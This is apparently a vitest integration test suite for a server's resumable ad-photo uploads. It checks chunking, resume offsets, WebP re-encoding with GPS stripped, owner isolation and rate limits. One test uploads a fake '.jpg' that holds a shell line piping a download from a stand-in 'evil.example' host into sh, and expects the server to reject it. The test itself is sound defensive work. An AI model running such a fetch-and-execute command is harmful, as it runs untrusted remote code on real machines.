import { randomUUID } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import express from 'express';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AD_PHOTO_SIZES, adPhotoPath, type AdPhotoSize } from '../../schema/ads/ad-list.ts';
import { issueTokens } from '../../sync-server/accounts/sessions.ts';
import { insertUser } from '../../sync-server/accounts/users.ts';
import { adPhotosApp, forgetAdPhotos, readyPhotos, type AdPhotoRoutesDeps } from '../../sync-server/ad-photos/index.ts';
import { newToken, storeToken } from '../../sync-server/http/auth.ts';
import { errorHandler } from '../../sync-server/http/problem.ts';
import type { Database, Sql } from '../../sync-server/store/database.ts';
import { openDatabase } from '../../sync-server/store/open-database.ts';

/**
 * Ad photos' resumable upload (issue 18) against the real server: chunks, a link that drops mid-chunk and a resume
 * from the server's offset, the real type checked (a script named .jpg is refused and nothing kept), the sizes
 * re-encoded upright, without any metadata (no GPS), and another owner's upload out of reach.
 */
const CHUNK = 256 * 1024;
const TYPE = 'application/offset+octet-stream';

const storeKind = process.env.DATABASE_URL ? 'postgres' : 'pglite';

/**
 * The photo routes in an app of their own (as sync-server/http/app.ts mounts them, before any body parser), so
 * these tests do not depend on the rest of the server; the ads feature's callback is a spy here.
 */
let db: Database;
let http: Server;
let server: { url: string; db: Database };
let seller: { owner: string; token: string };
let other: { owner: string; token: string };
const arrived: { owner: string; photoId: string; ready: boolean }[] = [];

const onPhotoReady = async (tx: Sql, owner: string, photoId: string): Promise<void> => {
  // Called inside the transaction that marks the photo ready: the ads' rules see it ready there.
  arrived.push({ owner, photoId, ready: (await readyPhotos(tx, owner, [photoId])).has(photoId) });
};

const startPhotoApp = async (deps: AdPhotoRoutesDeps): Promise<{ http: Server; url: string }> => {
  const app = express();
  app.use(adPhotosApp(deps));
  app.use(errorHandler);
  const listening = createServer(app);
  await new Promise<void>((resolve) => listening.listen(0, '127.0.0.1', resolve));
  return { http: listening, url: `http://127.0.0.1:${(listening.address() as AddressInfo).port}` };
};

let users = 0;
const loggedInUser = async (): Promise<{ owner: string; token: string }> => {
  const email = `photo-seller${++users}-${Date.now()}@example.bg`;
  const user = await insertUser(db, { email, firstname: 'Петя', lastname: 'Иванова' }, 'not-a-real-hash');
  const { token } = await issueTokens(
    db,
    { id: user!.id, owner: user!.owner },
    { accessSeconds: 900, refreshSeconds: 3600 },
  );
  return { owner: user!.owner, token };
};

beforeAll(async () => {
  db = await openDatabase({ databaseUrl: process.env.DATABASE_URL });
  // The shared PostgreSQL test database keeps rows between runs: start with no photos.
  await db.query('DELETE FROM ad_photos');
  await db.query("DELETE FROM rate_limits WHERE key LIKE 'ad-photo:%'");
  const started = await startPhotoApp({ db, onPhotoReady });
  http = started.http;
  server = { url: started.url, db };
  seller = await loggedInUser();
  other = await loggedInUser();
});
afterAll(async () => {
  await new Promise((resolve) => http?.close(resolve));
  await db?.close();
});

const head = (id: string, token: string, base = server.url) =>
  fetch(`${base}/api/ad-photos/${id}`, { method: 'HEAD', headers: { authorization: `Bearer ${token}` } });

const patch = (id: string, token: string, offset: number, length: number, bytes: Uint8Array, base = server.url) =>
  fetch(`${base}/api/ad-photos/${id}`, {
    method: 'PATCH',
    headers: {
      authorization: `Bearer ${token}`,
      'content-type': TYPE,
      'upload-offset': String(offset),
      'upload-length': String(length),
    },
    // A copy in an ArrayBuffer of its own: what fetch's types take, and exactly these bytes.
    body: new Blob([Uint8Array.from(bytes)]),
  });

const offsetOf = (res: Response) => Number(res.headers.get('upload-offset'));

/** Sends `bytes` from `from` to the end in chunks; answers the last response. */
const sendFrom = async (id: string, token: string, bytes: Uint8Array, from: number): Promise<Response> => {
  let offset = from;
  for (;;) {
    const res = await patch(id, token, offset, bytes.byteLength, bytes.subarray(offset, offset + CHUNK));
    if (res.status !== 204) return res;
    offset = offsetOf(res);
    if (offset >= bytes.byteLength) return res;
  }
};

/** A chunk whose connection dies halfway: the server gets part of its body, then a reset. */
const sendCutOff = async (id: string, token: string, offset: number, length: number, chunk: Uint8Array) => {
  const abort = new AbortController();
  const body = new ReadableStream<Uint8Array>({
    start(controller) {
      controller.enqueue(chunk.subarray(0, chunk.byteLength / 2));
      setTimeout(() => abort.abort(), 50);
    },
  });
  await fetch(`${server.url}/api/ad-photos/${id}`, {
    method: 'PATCH',
    headers: {
      authorization: `Bearer ${token}`,
      'content-type': TYPE,
      'content-length': String(chunk.byteLength),
      'upload-offset': String(offset),
      'upload-length': String(length),
    },
    body,
    signal: abort.signal,
    duplex: 'half',
  } as RequestInit).catch(() => undefined);
};

/** A noisy photo (so it is big enough for several chunks), with a camera tag, GPS and an EXIF orientation. */
const cameraPhoto = (width: number, height: number, orientation = 1) =>
  sharp({
    create: { width, height, channels: 3, background: '#6a8', noise: { type: 'gaussian', mean: 120, sigma: 40 } },
  })
    .jpeg({ quality: 90 })
    .withExif({
      IFD0: { Make: 'TestCam', Model: 'Phone 12' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '42/1 41/1 5/1', GPSLongitudeRef: 'E', GPSLongitude: '23/1 19/1 7/1' },
    })
    .withMetadata({ orientation })
    .toBuffer();

/** The GPS IFD pointer (tag 0x8825), in either byte order. */
const hasGps = (exif: Buffer | undefined) =>
  exif !== undefined && (exif.includes(Buffer.from([0x25, 0x88])) || exif.includes(Buffer.from([0x88, 0x25])));

/** A size as its owner's device asks for it (a photo in no published ad is its owner's only). */
const media = (id: string, size: AdPhotoSize) =>
  fetch(`${server.url}${adPhotoPath(id, size)}`, { headers: { authorization: `Bearer ${seller.token}` } });

const photoRows = async (id: string) =>
  (await server.db.query<{ n: number }>('SELECT count(*)::int AS n FROM ad_photos WHERE id = $1', [id]))[0]!.n +
  (await server.db.query<{ n: number }>('SELECT count(*)::int AS n FROM ad_photo_chunks WHERE photo_id = $1', [id]))[0]!
    .n;

describe(`ad photos: resumable upload (${storeKind})`, () => {
  it('a photo sent in chunks survives a drop mid-chunk and resumes from the offset the server holds', async () => {
    const photo = await cameraPhoto(1600, 1200);
    expect(photo.byteLength).toBeGreaterThan(3 * CHUNK);
    const id = randomUUID();

    expect((await head(id, seller.token)).status).toBe(404);
    const first = await patch(id, seller.token, 0, photo.byteLength, photo.subarray(0, CHUNK));
    expect(first.status).toBe(204);
    expect(offsetOf(first)).toBe(CHUNK);

    // The link drops in the middle of the second chunk: the server keeps none of it.
    await sendCutOff(id, seller.token, CHUNK, photo.byteLength, photo.subarray(CHUNK, 2 * CHUNK));
    const afterDrop = await head(id, seller.token);
    expect(afterDrop.status).toBe(200);
    expect(offsetOf(afterDrop)).toBe(CHUNK);
    expect(Number(afterDrop.headers.get('upload-length'))).toBe(photo.byteLength);

    // A device that thinks it sent more is told where the server really is.
    const ahead = await patch(id, seller.token, 2 * CHUNK, photo.byteLength, photo.subarray(2 * CHUNK, 3 * CHUNK));
    expect(ahead.status).toBe(409);
    expect(offsetOf(ahead)).toBe(CHUNK);
    // Not ready yet: nothing is served, and the ads' rules do not count it.
    expect((await media(id, 'tile')).status).toBe(404);
    expect(await readyPhotos(server.db, seller.owner, [id])).toEqual(new Set());

    const last = await sendFrom(id, seller.token, photo, offsetOf(afterDrop));
    expect(last.status).toBe(204);
    expect(offsetOf(last)).toBe(photo.byteLength);
    expect(offsetOf(await head(id, seller.token))).toBe(photo.byteLength);
    expect(await readyPhotos(server.db, seller.owner, [id, randomUUID()])).toEqual(new Set([id]));
    expect(arrived.filter((a) => a.photoId === id)).toEqual([{ owner: seller.owner, photoId: id, ready: true }]);
    // The original's bytes are not kept once the sizes are made.
    expect(
      (
        await server.db.query<{ n: number }>('SELECT count(*)::int AS n FROM ad_photo_chunks WHERE photo_id = $1', [id])
      )[0]!.n,
    ).toBe(0);

    // Sending the last chunk again (its answer was lost) is harmless: the device learns it is whole.
    const again = await patch(id, seller.token, photo.byteLength - 10, photo.byteLength, photo.subarray(-10));
    expect(again.status).toBe(409);
    expect(offsetOf(again)).toBe(photo.byteLength);
  });

  it('every size is WebP, upright, fitted inside its box without enlarging, with no GPS or camera tags', async () => {
    // 2400 × 1800 stored sideways: EXIF orientation 6 means it is shown 1800 wide × 2400 high.
    const photo = await cameraPhoto(2400, 1800, 6);
    expect(hasGps((await sharp(photo).metadata()).exif)).toBe(true);
    const id = randomUUID();
    expect((await sendFrom(id, seller.token, photo, 0)).status).toBe(204);

    for (const size of Object.keys(AD_PHOTO_SIZES) as AdPhotoSize[]) {
      const res = await media(id, size);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe('image/webp');
      expect(res.headers.get('cache-control')).toBe('private, no-store');
      const bytes = Buffer.from(await res.arrayBuffer());
      const meta = await sharp(bytes).metadata();
      expect(meta.format).toBe('webp');
      const [boxWidth, boxHeight] = AD_PHOTO_SIZES[size];
      const scale = Math.min(boxWidth / 1800, boxHeight / 2400);
      expect(Math.abs(meta.width - 1800 * scale)).toBeLessThanOrEqual(1);
      expect(Math.abs(meta.height - 2400 * scale)).toBeLessThanOrEqual(1);
      // It fills its box on the side that bounds it.
      expect(meta.width === boxWidth || meta.height === boxHeight).toBe(true);
      expect(meta.height).toBeGreaterThan(meta.width);
      expect(meta.exif).toBeUndefined();
      expect(meta.xmp).toBeUndefined();
      expect(meta.orientation ?? 1).toBe(1);
      expect(hasGps(meta.exif)).toBe(false);
      expect(bytes.includes(Buffer.from('TestCam'))).toBe(false);
    }
  });

  it('a small photo is never enlarged', async () => {
    const photo = await cameraPhoto(200, 150);
    const id = randomUUID();
    expect((await sendFrom(id, seller.token, photo, 0)).status).toBe(204);
    for (const size of Object.keys(AD_PHOTO_SIZES) as AdPhotoSize[]) {
      const meta = await sharp(Buffer.from(await (await media(id, size)).arrayBuffer())).metadata();
      expect([meta.width, meta.height]).toEqual([200, 150]);
    }
  });

  it('a script named .jpg is refused with 415 and nothing of it is kept', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n'.repeat(40));
    const id = randomUUID();
    const res = await patch(id, seller.token, 0, script.byteLength, script);
    expect(res.status).toBe(415);
    const body = (await res.json()) as { result: { error: string; field: string } };
    expect(body.result.field).toBe('photo');
    expect(body.result.error).toContain('must be a JPEG, PNG or WebP photo');
    expect(await photoRows(id)).toBe(0);
    expect((await head(id, seller.token)).status).toBe(404);
  });

  it('a PNG can pretend to be anything; a JPEG cut short is refused', async () => {
    const png = await sharp({ create: { width: 320, height: 320, channels: 4, background: '#0000' } })
      .png()
      .toBuffer();
    const id = randomUUID();
    expect((await sendFrom(id, seller.token, png, 0)).status).toBe(204);

    const truncated = (await cameraPhoto(800, 600)).subarray(0, 3000);
    const broken = randomUUID();
    expect((await patch(broken, seller.token, 0, truncated.byteLength, truncated)).status).toBe(415);
    expect(await photoRows(broken)).toBe(0);
  });

  it("another owner's upload is a 404 to them, and stays untouched", async () => {
    const photo = await cameraPhoto(1200, 900);
    const id = randomUUID();
    expect((await patch(id, seller.token, 0, photo.byteLength, photo.subarray(0, CHUNK))).status).toBe(204);

    expect((await head(id, other.token)).status).toBe(404);
    const stolen = await patch(id, other.token, CHUNK, photo.byteLength, photo.subarray(CHUNK, 2 * CHUNK));
    expect(stolen.status).toBe(404);
    expect(offsetOf(await head(id, seller.token))).toBe(CHUNK);
    expect(await readyPhotos(server.db, other.owner, [id])).toEqual(new Set());
    expect(await readyPhotos(server.db, seller.owner, [id])).toEqual(new Set());
  });

  it('refuses oversized photos and chunks, guests and bad headers, naming the field', async () => {
    const id = randomUUID();
    const tooLong = await patch(id, seller.token, 0, 15 * 1024 * 1024 + 1, new Uint8Array(10));
    expect(tooLong.status).toBe(413);
    expect(((await tooLong.json()) as { result: { field: string } }).result.field).toBe('Upload-Length');

    const bigChunk = await patch(id, seller.token, 0, 2 * 1024 * 1024, new Uint8Array(1024 * 1024 + 1));
    expect(bigChunk.status).toBe(413);
    expect(((await bigChunk.json()) as { result: { field: string } }).result.field).toBe('body');

    const noType = await fetch(`${server.url}/api/ad-photos/${id}`, {
      method: 'PATCH',
      headers: { authorization: `Bearer ${seller.token}`, 'upload-offset': '0', 'upload-length': '10' },
      body: new Uint8Array(10),
    });
    expect(noType.status).toBe(415);
    expect(((await noType.json()) as { result: { field: string } }).result.field).toBe('Content-Type');

    const badId = await patch('not-a-uuid', seller.token, 0, 10, new Uint8Array(10));
    expect(badId.status).toBe(400);
    expect(((await badId.json()) as { result: { field: string } }).result.field).toBe('id');

    const guestToken = newToken();
    await storeToken(db, guestToken, { owner: `guest-${randomUUID()}`, kind: 'guest' });
    expect((await patch(id, guestToken, 0, 10, new Uint8Array(10))).status).toBe(403);
    expect((await head(id, '')).status).toBe(401);
    expect(await photoRows(id)).toBe(0);
  });

  it("an ad's photos are forgotten by their owner only, and are then served no more", async () => {
    const photo = await cameraPhoto(300, 200);
    const id = randomUUID();
    expect((await sendFrom(id, seller.token, photo, 0)).status).toBe(204);
    expect(await forgetAdPhotos(db, other.owner, [id])).toBe(0);
    expect((await media(id, 'tile')).status).toBe(200);
    expect(await forgetAdPhotos(db, seller.owner, [id, 'not-an-id'])).toBe(1);
    expect((await media(id, 'tile')).status).toBe(404);
    expect(await readyPhotos(db, seller.owner, [id])).toEqual(new Set());
  });

  it('serves 404 for an unknown photo or size', async () => {
    expect((await fetch(`${server.url}/media/ads/${randomUUID()}/large.webp`)).status).toBe(404);
    expect((await fetch(`${server.url}/media/ads/not-an-id/large.webp`)).status).toBe(404);
  });
});

describe(`ad photos: per-owner bounds (${storeKind})`, () => {
  let bounded: { http: Server; url: string };
  beforeAll(async () => {
    bounded = await startPhotoApp({
      db,
      limits: { inFlight: 2, stored: 1, requests: { max: 12, windowSeconds: 600 }, staleSeconds: 3600 },
    });
  });
  afterAll(async () => {
    await new Promise((resolve) => bounded?.http.close(resolve));
  });

  const fieldOf = async (res: Response) => ((await res.json()) as { result: { field?: string } }).result.field;

  it('an owner has at most so many uploads unfinished; abandoned ones make room once stale', async () => {
    const owner = await loggedInUser();
    const part = new Uint8Array(1000);
    const started = [randomUUID(), randomUUID()];
    for (const id of started) expect((await patch(id, owner.token, 0, 5000, part, bounded.url)).status).toBe(204);
    const third = randomUUID();
    const refused = await patch(third, owner.token, 0, 5000, part, bounded.url);
    expect(refused.status).toBe(429);
    expect(await fieldOf(refused)).toBe('id');
    expect(await photoRows(third)).toBe(0);

    // Nobody has gone on with them for longer than the bound allows: the next upload drops them and starts.
    await db.query(
      `UPDATE ad_photos SET updated_at = now() - interval '2 hours' WHERE owner = $1 AND status = 'uploading'`,
      [owner.owner],
    );
    expect((await patch(third, owner.token, 0, 5000, part, bounded.url)).status).toBe(204);
    for (const id of started) expect(await photoRows(id)).toBe(0);
  });

  it('an owner keeps at most so many photos', async () => {
    const owner = await loggedInUser();
    const small = await cameraPhoto(64, 48);
    expect((await patch(randomUUID(), owner.token, 0, small.byteLength, small, bounded.url)).status).toBe(204);
    const next = randomUUID();
    const refused = await patch(next, owner.token, 0, small.byteLength, small, bounded.url);
    expect(refused.status).toBe(403);
    expect(await fieldOf(refused)).toBe('id');
    expect(await photoRows(next)).toBe(0);
  });

  it('requests are rate limited per owner, with Retry-After', async () => {
    const owner = await loggedInUser();
    const answers: number[] = [];
    for (let i = 0; i < 13; i++) answers.push((await head(randomUUID(), owner.token, bounded.url)).status);
    expect(answers.slice(0, 12).every((status) => status === 404)).toBe(true);
    const limited = await head(randomUUID(), owner.token, bounded.url);
    expect(limited.status).toBe(429);
    expect(Number(limited.headers.get('retry-after'))).toBeGreaterThan(0);
    // Another owner is not held back by it.
    expect((await head(randomUUID(), (await loggedInUser()).token, bounded.url)).status).toBe(404);
  });
});
